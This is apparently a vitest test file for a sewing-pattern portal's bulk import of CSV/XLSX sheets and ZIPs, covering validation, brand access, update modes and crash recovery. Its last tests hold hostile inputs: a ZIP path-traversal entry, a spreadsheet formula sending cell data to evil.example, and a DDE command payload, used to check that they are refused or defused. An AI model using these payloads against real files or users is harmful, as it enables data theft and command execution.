import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { createTestApp, createUser, type TestApp, type TestUser } from '../../test/helper';
import { listObjects } from '../../test/submission';
import { samplePdf, samplePng, SAMPLE_JPEG } from '../../test/sample-files';
import { patternFiles, patterns, sizes } from '../../db/schema/patterns';
import { importJobs } from '../../db/schema/imports';
import { ALLOWED_VALUES_SHEET, IMPORT_PATHS, IMPORT_MSG } from '../../../shared/contracts/imports';
import { type ActivityPage, ACTIVITY_PATHS } from '../../../shared/contracts/activity';
import { PATTERN_LABELS } from '../../../shared/contracts/patterns';
import {
  csvSheet,
  getImport,
  importWorker,
  postImport,
  renameInZip,
  uploadAndCheck,
  uploadForm,
  zipOf,
  type SheetRow,
} from './imports.fixtures';
import { localZipPath } from './import-files';
import { importChecksWorker } from './imports.worker';
import { readSheet } from './sheet-reader';
import { TEMPLATE_HEADERS } from './template';

let t: TestApp;
let partner: TestUser;
beforeEach(async () => {
  t = await createTestApp({ IMPORT_WORKER: 'off' });
  partner = await createUser(t, { brand: 'ditto' });
});
afterEach(() => t.close());

/** The store key of a job's ZIP (kept on the job until its import ends). */
async function zipKeyOf(id: number): Promise<string> {
  const [job] = await t.deps.database.db
    .select({ zipKey: importJobs.zipKey })
    .from(importJobs)
    .where(eq(importJobs.id, id));
  if (!job?.zipKey) throw new Error(`import ${id} has no ZIP`);
  return job.zipKey;
}

const row = (
  id: string,
  view: string,
  size: string,
  pdf: string,
  extra: SheetRow = {},
): SheetRow => ({
  'Pattern ID': id,
  'Pattern View': view,
  Size: size,
  'Pattern PDF': pdf,
  ...extra,
});

async function catalogue() {
  const sheet: SheetRow[] = [
    row('IMP-1', 'A', 'S', 'imp1-s.pdf', {
      'Pattern Name': 'First',
      'Fabric Type': 'Knit',
      Price: '12.5',
      'Hero Images': 'hero-a.png; hero-b.jpg',
      'Sewing Instructions PDF': 'instr.pdf',
    }),
    row('IMP-1', 'A', 'M', 'imp1-m.pdf'),
    row('IMP-2', 'B', '10', 'imp2.pdf', { 'Pattern Name': 'Second', Gender: 'Women' }),
  ];
  const zip = await zipOf([
    { name: 'pdfs/imp1-s.pdf', data: samplePdf(3000) },
    { name: 'pdfs/imp1-m.pdf', data: samplePdf(3000) },
    { name: 'imp2.pdf', data: samplePdf(2000) },
    { name: 'images/hero-a.png', data: samplePng(10, 10) },
    { name: 'images/hero-b.jpg', data: SAMPLE_JPEG },
    { name: 'instr.pdf', data: samplePdf(4000) },
    { name: '__MACOSX/._imp2.pdf', data: Buffer.from('junk') },
  ]);
  return { sheet, zip };
}

describe('bulk import', () => {
  it('offers the template as CSV and as XLSX with a second sheet of allowed values', async () => {
    const csv = await t.app.inject({
      method: 'GET',
      url: IMPORT_PATHS.templateOf('csv'),
      headers: partner.auth,
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.body.trim().split(',')).toEqual(TEMPLATE_HEADERS);
    const xlsx = await t.app.inject({
      method: 'GET',
      url: IMPORT_PATHS.templateOf('xlsx'),
      headers: partner.auth,
    });
    expect(xlsx.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    expect((wb.worksheets[0]?.getRow(1).values as string[]).slice(1)).toEqual(TEMPLATE_HEADERS);
    const lists = wb.getWorksheet(ALLOWED_VALUES_SHEET)!;
    expect(lists.getCell('A1').value).toBe('Brand');
    expect(lists.getCell('A2').value).toBe('Ditto'); // a partner's list holds their own brand only
    expect(lists.getCell('A3').value).toBeNull();
    const fabric = (lists.getRow(1).values as string[]).indexOf('Fabric Type');
    expect(lists.getCell(2, fabric).value).toBe('Knit');
  });

  it('checks first, then imports every pattern whole as a draft with its sizes and files', async () => {
    const { sheet, zip } = await catalogue();
    const checked = await uploadAndCheck(t, partner, uploadForm(csvSheet(sheet), { zip }));
    expect(checked.issues).toEqual([]);
    expect(checked).toMatchObject({ status: 'checked', rows: 3, patterns: 2, valid: 2 });
    expect(await t.deps.database.db.select().from(patterns)).toHaveLength(0); // the check saves nothing
    // Nor does it keep its local copy of the ZIP (the run makes its own).
    expect(fs.existsSync(localZipPath(checked.id, await zipKeyOf(checked.id)))).toBe(false);

    const run = await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(checked.id),
      headers: partner.auth,
    });
    expect(run.statusCode).toBe(202);
    await importWorker(t).drain();
    const done = await getImport(t, partner, checked.id);
    expect(done).toMatchObject({ status: 'done', created: 2, failed: 0 });
    const rows = await t.deps.database.db
      .select()
      .from(patterns)
      .where(eq(patterns.SFCC_Pattern_ID, 'IMP-1'));
    expect(rows[0]).toMatchObject({
      Pattern_Name: 'First',
      SFCC_Status: 'draft',
      Fabric_type: 'Knit',
      Price: '12.50',
      brandId: partner.brandId,
    });
    expect(
      await t.deps.database.db.select().from(sizes).where(eq(sizes.patternId, rows[0]!.ID)),
    ).toHaveLength(2);
    const files = await t.deps.database.db
      .select()
      .from(patternFiles)
      .where(eq(patternFiles.patternId, rows[0]!.ID));
    expect(files.map((f) => f.kind).sort()).toEqual([
      'Hero_Images',
      'Hero_Images',
      'Instruction_PDF',
      'pattern_pdf_file',
      'pattern_pdf_file',
    ]);
    // The ZIP is gone from the store once imported; the sheet stays for the report.
    expect(listObjects(t).filter((k) => k.startsWith('imports/'))).toHaveLength(1);
    const again = await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(checked.id),
      headers: partner.auth,
    });
    expect(again.statusCode).toBe(409);
  });

  it('reads an XLSX sheet row by row like a CSV', async () => {
    const { sheet, zip } = await catalogue();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Patterns');
    ws.addRow([...TEMPLATE_HEADERS]);
    for (const r of sheet)
      ws.addRow(TEMPLATE_HEADERS.map((h) => (r as Record<string, string>)[h] ?? null));
    const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
    const checked = await uploadAndCheck(
      t,
      partner,
      uploadForm(xlsx, { zip, sheetName: 'patterns.xlsx' }),
    );
    expect(checked.issues).toEqual([]);
    expect(checked).toMatchObject({ status: 'checked', patterns: 2, valid: 2 });
  });

  it('reads a CSV saved by Excel or LibreOffice in a European locale: semicolons, Windows-1252 or UTF-8 with BOM, quoted line breaks (issue 34)', async () => {
    const zip = await zipOf([
      { name: 'eu-s.pdf', data: samplePdf(2000) },
      { name: 'eu-m.pdf', data: samplePdf(2000) },
    ]);
    const L = PATTERN_LABELS;
    const sheet = (id: string) =>
      [
        [
          L.SFCC_Pattern_ID,
          L.Pattern_Name,
          L.Pattern_Description,
          'Pattern View',
          'Size',
          'Pattern PDF',
        ].join(';'),
        `${id};Robe d'été;"Première ligne; suite\r\nseconde ligne";A;S;eu-s.pdf`,
        ';;;A;M;eu-m.pdf',
      ].join('\r\n') + '\r\n';
    const latin = Buffer.from(sheet('EU-1'), 'latin1'); // é is 0xE9 in Windows-1252 as in Latin-1
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(sheet('EU-2'))]);
    for (const bytes of [latin, bom]) {
      const checked = await uploadAndCheck(t, partner, uploadForm(bytes, { zip }));
      expect(checked.issues).toEqual([]);
      expect(checked).toMatchObject({ status: 'checked', rows: 2, patterns: 1, valid: 1 });
      await t.app.inject({
        method: 'POST',
        url: IMPORT_PATHS.runOf(checked.id),
        headers: partner.auth,
      });
      await importWorker(t).drain();
    }
    const rows = await t.deps.database.db.select().from(patterns).orderBy(patterns.SFCC_Pattern_ID);
    expect(rows.map((p) => [p.SFCC_Pattern_ID, p.Pattern_Name, p.Pattern_Description])).toEqual([
      ['EU-1', "Robe d'été", 'Première ligne; suite\r\nseconde ligne'],
      ['EU-2', "Robe d'été", 'Première ligne; suite\r\nseconde ligne'],
    ]);

    // A sheet that really has no Pattern ID column says which headers it found.
    const wrong = await uploadAndCheck(
      t,
      partner,
      uploadForm(Buffer.from('Name;Colour;Größe\nTop;Red;M\n')),
    );
    expect(wrong.status).toBe('failed');
    expect(wrong.error).toBe(IMPORT_MSG.noPatternIdColumn(['Name', 'Colour', 'Größe']));
    expect(wrong.error).toBe(
      'The sheet has no Pattern ID column; its first row has "Name", "Colour", "Größe"',
    );
  });

  it('reports twenty kinds of error at their row and column with the form’s messages, and saves nothing', async () => {
    const other = await createUser(t, { brand: 'butterick' });
    const taken = await uploadAndCheck(
      t,
      other,
      uploadForm(csvSheet([row('TAKEN', 'A', 'S', 'a.pdf', { 'Pattern Name': 'x' })]), {
        zip: await zipOf([{ name: 'a.pdf', data: samplePdf() }]),
      }),
    );
    await t.app.inject({ method: 'POST', url: IMPORT_PATHS.runOf(taken.id), headers: other.auth });
    await importWorker(t).drain();
    const heroes = Array.from({ length: 21 }, (_, i) => `h${i}.png`).join(';');
    const sheet: SheetRow[] = [
      row('E1', 'A', 'S', 'ok.pdf'), // 2: Pattern Name is required
      row('E2', '', 'S', 'ok.pdf', { 'Pattern Name': 'n' }), // 3: Pattern View is required
      row('E3', 'A', '', 'ok.pdf', { 'Pattern Name': 'n' }), // 4: Size is required
      row('E4', 'A', 'S', '', { 'Pattern Name': 'n' }), // 5: Patterns pdf is required
      row('E5', 'A', 'S', 'missing.pdf', { 'Pattern Name': 'n' }), // 6: not in the ZIP
      row('E6', 'A', 'S', 'big.pdf', { 'Pattern Name': 'n' }), // 7: larger than 5MB
      row('E7', 'A', 'S', 'fake.pdf', { 'Pattern Name': 'n' }), // 8: not a PDF (content)
      row('E8', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', 'Sketch Image': 'ok.pdf' }), // 9: not an image
      row('TAKEN', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n' }), // 10: Pattern ID already exists (another brand's)
      row('E10', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', 'Fabric Type': 'Silk' }), // 11
      row('E11', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', 'Pattern Type': 'Hats' }), // 12
      row('E12', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', Gender: 'Cats' }), // 13
      row('E13', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', 'Is Printable': 'Maybe' }), // 14
      row('E14', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', Price: 'cheap' }), // 15
      row('E15', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', Brand: 'Butterick' }), // 16: another brand
      row('E16', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', Brand: 'Nobody' }), // 17: unknown brand
      row('E17', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n' }), // 18
      row('E17', 'a', 's', 'ok.pdf'), // 19: same size twice
      row('E18', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'x'.repeat(300) }), // 20: too long
      row('E19', 'A', 'S', 'empty.pdf', { 'Pattern Name': 'n' }), // 21: empty file
      row('E20', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', 'Hero Images': heroes }), // 22: too many hero images
      row('E21', 'A', 'S', 'twice.pdf', { 'Pattern Name': 'n' }), // 23: in two folders
      row('E22', 'A', 'S', 'ok.pdf', { 'Pattern Name': 'n', 'Is Subscribable': 'Often' }), // 24
      row('E1', 'B', 'M', 'ok.pdf'), // 25: E1's rows apart
    ];
    const zip = await zipOf([
      { name: 'ok.pdf', data: samplePdf() },
      { name: 'big.pdf', data: samplePdf(5 * 1024 * 1024 + 10), compress: false },
      { name: 'fake.pdf', data: samplePng(4, 4) },
      { name: 'empty.pdf', data: Buffer.alloc(0) },
      { name: 'a/twice.pdf', data: samplePdf() },
      { name: 'b/twice.pdf', data: samplePdf() },
      { name: 'stray.pdf', data: samplePdf() },
    ]);
    const headers = [...TEMPLATE_HEADERS, 'Colour'];
    const report = await uploadAndCheck(t, partner, uploadForm(csvSheet(sheet, headers), { zip }));
    const at = (r: number, column: string) =>
      report.issues.filter((i) => i.row === r && i.column === column).map((i) => i.message);
    expect(at(1, 'Colour')).toEqual([IMPORT_MSG.unknownColumn('Colour')]);
    expect(at(2, 'Pattern Name')).toEqual(['Pattern Name is required']);
    expect(at(3, 'Pattern View')).toEqual(['Pattern View is required']);
    expect(at(4, 'Size')).toEqual(['Size is required']);
    expect(at(5, 'Pattern PDF')).toEqual(['Patterns pdf is required']);
    expect(at(6, 'Pattern PDF')).toEqual([IMPORT_MSG.notInZip('missing.pdf')]);
    expect(at(7, 'Pattern PDF')).toEqual(['big.pdf is larger than 5MB']);
    expect(at(8, 'Pattern PDF')).toEqual(['fake.pdf is not a PDF']);
    expect(at(9, 'Sketch Image')).toEqual(['ok.pdf is not a JPG or PNG image']);
    expect(at(10, 'Pattern ID')).toEqual(['Pattern ID already exists']);
    expect(at(11, 'Fabric Type')[0]).toMatch(/^Fabric Type must be one of: Knit/);
    expect(at(12, 'Pattern Type')[0]).toMatch(/^Pattern Type must be one of/);
    expect(at(13, 'Gender')[0]).toMatch(/^Gender must be one of/);
    expect(at(14, 'Is Printable')[0]).toMatch(/^Is Printable must be one of/);
    expect(at(15, 'Price')).toEqual(['Price must be a number such as 12.50 or 1234.50']);
    expect(at(16, 'Brand')).toEqual(['You can only add patterns to your own brand']);
    expect(at(17, 'Brand')).toEqual(['This brand does not exist']);
    expect(at(19, 'Size')).toEqual(['Size s of view a is already in this pattern']);
    expect(at(20, 'Pattern Name')).toEqual(['Pattern Name must be at most 255 characters']);
    expect(at(21, 'Pattern PDF')).toEqual(['empty.pdf is empty']);
    expect(at(22, 'Hero Images')).toContain('At most 20 hero images');
    expect(at(23, 'Pattern PDF')).toEqual([IMPORT_MSG.duplicateInZip('twice.pdf')]);
    expect(at(24, 'Is Subscribable')[0]).toMatch(/^Is Subscribable must be one of/);
    expect(at(25, 'Pattern ID')).toEqual([IMPORT_MSG.rowsApart(2)]);
    expect(at(0, 'ZIP')).toContain(IMPORT_MSG.unusedFile('stray.pdf'));
    expect(report).toMatchObject({ status: 'checked', valid: 0 });

    const run = await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(report.id),
      headers: partner.auth,
    });
    expect(run.statusCode).toBe(409);
    expect(run.json().message).toBe(IMPORT_MSG.nothingToImport);
    expect(
      (await t.deps.database.db.select().from(patterns)).map((p) => p.SFCC_Pattern_ID),
    ).toEqual(['TAKEN']);

    // The CSV report: the sheet as sent with an Errors column, the ZIP's problems at the end.
    const csv = await t.app.inject({
      method: 'GET',
      url: IMPORT_PATHS.reportOf(report.id),
      headers: partner.auth,
    });
    expect(csv.statusCode).toBe(200);
    const lines: string[][] = [];
    for await (const r of readSheet(Readable.from([csv.rawPayload]), 'csv')) lines.push(r.cells);
    expect(lines[0]?.at(-1)).toBe('Errors');
    expect(lines.find((l) => l[0] === 'E4')!.at(-1)).toBe('Pattern PDF: Patterns pdf is required');
    expect(lines.map((l) => l.at(-1))).toContain(`ZIP: ${IMPORT_MSG.unusedFile('stray.pdf')}`);
  });

  it('refuses a ZIP with a trick: the job fails with the reason and nothing is kept of it', async () => {
    const zip = renameInZip(
      await zipOf([{ name: 'xx/evil.pdf', data: samplePdf() }]),
      'xx/evil.pdf',
      '../evil.pdf',
    );
    const posted = await postImport(
      t,
      partner,
      uploadForm(csvSheet([row('Z1', 'A', 'S', 'evil.pdf', { 'Pattern Name': 'n' })]), { zip }),
    );
    expect(posted.statusCode).toBe(202);
    const zipKey = await zipKeyOf(posted.json().id);
    await importWorker(t).drain();
    const job = await getImport(t, partner, posted.json().id);
    expect(job).toMatchObject({
      status: 'failed',
      error: IMPORT_MSG.zipRefused(IMPORT_MSG.zip.unsafePath('../evil.pdf')),
    });
    expect(job.issues).toEqual([{ row: 0, column: 'ZIP', message: job.error }]);
    // Nothing is kept of it: not in the store (only the sheet stays, for the report), nor here.
    expect(listObjects(t)).not.toContain(zipKey);
    expect(listObjects(t).filter((k) => k.startsWith('imports/'))).toHaveLength(1);
    expect(fs.existsSync(localZipPath(job.id, zipKey))).toBe(false);
  });

  it('keeps imports to their brand: another brand’s partner gets 404; an admin names any brand', async () => {
    const { sheet, zip } = await catalogue();
    const mine = await uploadAndCheck(t, partner, uploadForm(csvSheet(sheet), { zip }));
    const other = await createUser(t, { brand: 'butterick' });
    expect(
      (await t.app.inject({ method: 'GET', url: IMPORT_PATHS.oneOf(mine.id), headers: other.auth }))
        .statusCode,
    ).toBe(404);
    const list = await t.app.inject({ method: 'GET', url: IMPORT_PATHS.list, headers: other.auth });
    expect(list.json().items).toEqual([]);

    const admin = await createUser(t, { role: 'admin', brand: null });
    const adminSheet = [
      row('ADM-1', 'A', 'S', 'imp2.pdf', { 'Pattern Name': 'By admin', Brand: "McCall's" }),
    ];
    const checked = await uploadAndCheck(
      t,
      admin,
      uploadForm(csvSheet(adminSheet), {
        zip: await zipOf([{ name: 'imp2.pdf', data: samplePdf() }]),
      }),
    );
    expect(checked.issues).toEqual([]);
    expect(checked.valid).toBe(1);
  });

  it('skips or updates existing Pattern IDs as chosen; an update changes only the filled columns', async () => {
    const { sheet, zip } = await catalogue();
    const first = await uploadAndCheck(t, partner, uploadForm(csvSheet(sheet), { zip }));
    await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(first.id),
      headers: partner.auth,
    });
    await importWorker(t).drain();

    const skip = await uploadAndCheck(
      t,
      partner,
      uploadForm(csvSheet([row('IMP-2', '', '', '', { 'Pattern Name': 'Renamed' })]), {
        mode: 'skip',
      }),
    );
    expect(skip.issues).toEqual([{ row: 2, column: 'Pattern ID', message: IMPORT_MSG.willSkip }]);
    // The same sheet and ZIP again: the skipped rows name every file, so none is "unused" (issue 34).
    const again = await uploadAndCheck(t, partner, uploadForm(csvSheet(sheet), { zip }));
    expect(again.issues).toEqual([
      { row: 2, column: 'Pattern ID', message: IMPORT_MSG.willSkip },
      { row: 4, column: 'Pattern ID', message: IMPORT_MSG.willSkip },
    ]);

    const update = await uploadAndCheck(
      t,
      partner,
      uploadForm(csvSheet([row('IMP-2', 'B', '12', 'new.pdf', { 'Pattern Name': 'Renamed' })]), {
        mode: 'update',
        zip: await zipOf([{ name: 'new.pdf', data: samplePdf() }]),
      }),
    );
    expect(update.issues).toEqual([]);
    await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(update.id),
      headers: partner.auth,
    });
    await importWorker(t).drain();
    expect(await getImport(t, partner, update.id)).toMatchObject({ status: 'done', updated: 1 });
    const [p] = await t.deps.database.db
      .select()
      .from(patterns)
      .where(eq(patterns.SFCC_Pattern_ID, 'IMP-2'));
    if (!p) throw new Error('expected p');
    expect(p).toMatchObject({ Pattern_Name: 'Renamed', Gender: 'Women' });
    expect(
      await t.deps.database.db.select().from(sizes).where(eq(sizes.patternId, p.ID)),
    ).toHaveLength(2);
    // The update is recorded as edits, as the pattern screen's are: fields before → after, the new size and file.
    const activity = await t.app.inject({
      url: ACTIVITY_PATHS.activity(p.ID),
      headers: partner.auth,
    });
    const actions = (activity.json() as ActivityPage).data.map((e) => e.action);
    expect(actions).toEqual(
      expect.arrayContaining(['created', 'fields_changed', 'size_added', 'file_added']),
    );
    expect(
      (activity.json() as ActivityPage).data.find((e) => e.action === 'fields_changed')?.text,
    ).toContain('Renamed');
  });

  it('a crash mid-import leaves no half pattern: the job resumes after the last whole one, or fails saying how far it got; the PDFs’ checks wait while it runs, its outcomes come when it ends', async () => {
    const { sheet, zip } = await catalogue();
    const more = [...sheet, row('IMP-3', 'C', 'L', 'imp2.pdf', { 'Pattern Name': 'Third' })];
    const checked = await uploadAndCheck(t, partner, uploadForm(csvSheet(more), { zip }));
    await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(checked.id),
      headers: partner.auth,
    });
    let crashes = 1;
    const checksPaused: boolean[] = [];
    const w = importWorker(t, {
      beforeCommit: async (seq) => {
        checksPaused.push(importChecksWorker(t.deps).paused!());
        if (seq === 1 && crashes-- > 0) throw new Error('process killed');
      },
    });
    await w.drain();
    // The imported PDFs' checks wait while an import runs in this process, and go on once it stops.
    expect(checksPaused.length).toBeGreaterThan(0);
    expect(checksPaused.every(Boolean)).toBe(true);
    expect(importChecksWorker(t.deps).paused!()).toBe(false);
    let job = await getImport(t, partner, checked.id);
    expect(job.status).toBe('importing');
    // Polled every second while it runs: the progress, not every pattern's outcome.
    expect(job.outcomes).toEqual([]);
    expect(
      (await t.deps.database.db.select().from(patterns)).map((p) => p.SFCC_Pattern_ID),
    ).toEqual(['IMP-1']);
    // The crashed pattern's stored files were removed: only IMP-1's objects and the uploads remain —
    // four, not five: its two sizes' PDFs are the same bytes, stored once (ADR 009).
    expect(
      listObjects(t).filter((k) => k.startsWith('patterns/') && !k.endsWith('.webp')),
    ).toHaveLength(4); // thumbnails aside
    await w.retryNow();
    await w.drain();
    job = await getImport(t, partner, checked.id);
    expect(job).toMatchObject({ status: 'done', created: 3 });
    expect(job.outcomes.map((o) => [o.patternId, o.outcome])).toEqual([
      ['IMP-1', 'created'],
      ['IMP-2', 'created'],
      ['IMP-3', 'created'],
    ]);
    expect(
      (await t.deps.database.db.select().from(patterns)).map((p) => p.SFCC_Pattern_ID).sort(),
    ).toEqual(['IMP-1', 'IMP-2', 'IMP-3']);

    const again = await uploadAndCheck(
      t,
      partner,
      uploadForm(
        csvSheet([
          row('IMP-4', 'A', 'S', 'imp2.pdf', { 'Pattern Name': 'n' }),
          row('IMP-5', 'A', 'S', 'imp2.pdf', { 'Pattern Name': 'n' }),
        ]),
        { zip },
      ),
    );
    await t.app.inject({
      method: 'POST',
      url: IMPORT_PATHS.runOf(again.id),
      headers: partner.auth,
    });
    const broken = importWorker(t, {
      beforeCommit: async (seq) =>
        void (seq === 1 && (await Promise.reject(new Error('disk gone')))),
    });
    await t.deps.database.db.execute(
      `UPDATE jobs SET max_attempts = 1 WHERE dedupe_key = 'import:${again.id}:run'` as never,
    );
    const zipKey = await zipKeyOf(again.id);
    await broken.drain();
    job = await getImport(t, partner, again.id);
    expect(job).toMatchObject({
      status: 'failed',
      error: IMPORT_MSG.interrupted(1, 2),
      created: 1,
    });
    // A failed import never runs again: its ZIP leaves the store and this machine.
    expect(listObjects(t)).not.toContain(zipKey);
    expect(fs.existsSync(localZipPath(again.id, zipKey))).toBe(false);
  });
});

describe('the import report CSV (issue 33 item 5)', () => {
  it('hands no formula back: a partner’s =HYPERLINK(…) reaches the admin defused, and reads back as sent', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    // The sheet as an attacker writes it: the formula cell bare, not through the portal's writer.
    const headers = ['Pattern ID', 'Pattern View', 'Size', 'Pattern PDF', 'Pattern Name'];
    const sheet = Buffer.from(
      `${headers.join(',')}\r\nEVIL-1,A,S,evil.pdf,"${formula.replace(/"/g, '""')}"\r\n` +
        `EVIL-2,A,S,evil2.pdf,+cmd|' /C calc'!A0\r\n`,
    );
    const zip = await zipOf([
      { name: 'evil.pdf', data: samplePdf() },
      { name: 'evil2.pdf', data: samplePdf() },
    ]);
    const checked = await uploadAndCheck(t, partner, uploadForm(sheet, { zip }));
    const admin = await createUser(t, { role: 'admin', brand: null });
    const csv = await t.app.inject({
      method: 'GET',
      url: IMPORT_PATHS.reportOf(checked.id),
      headers: admin.auth,
    });
    expect(csv.statusCode).toBe(200);
    const cells = parseCsv(csv.body, { bom: true, relax_column_count: true }) as string[][];
    const names = cells.slice(1).map((r) => r[4]);
    expect(names).toEqual([`'${formula}`, "'+cmd|' /C calc'!A0"]);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Sent back to be fixed, the report reads as the partner's own cells.
    const back: string[][] = [];
    for await (const r of readSheet(Readable.from([csv.rawPayload]), 'csv')) back.push(r.cells);
    expect(back.slice(1).map((r) => r[4])).toEqual([formula, "+cmd|' /C calc'!A0"]);
  });
});
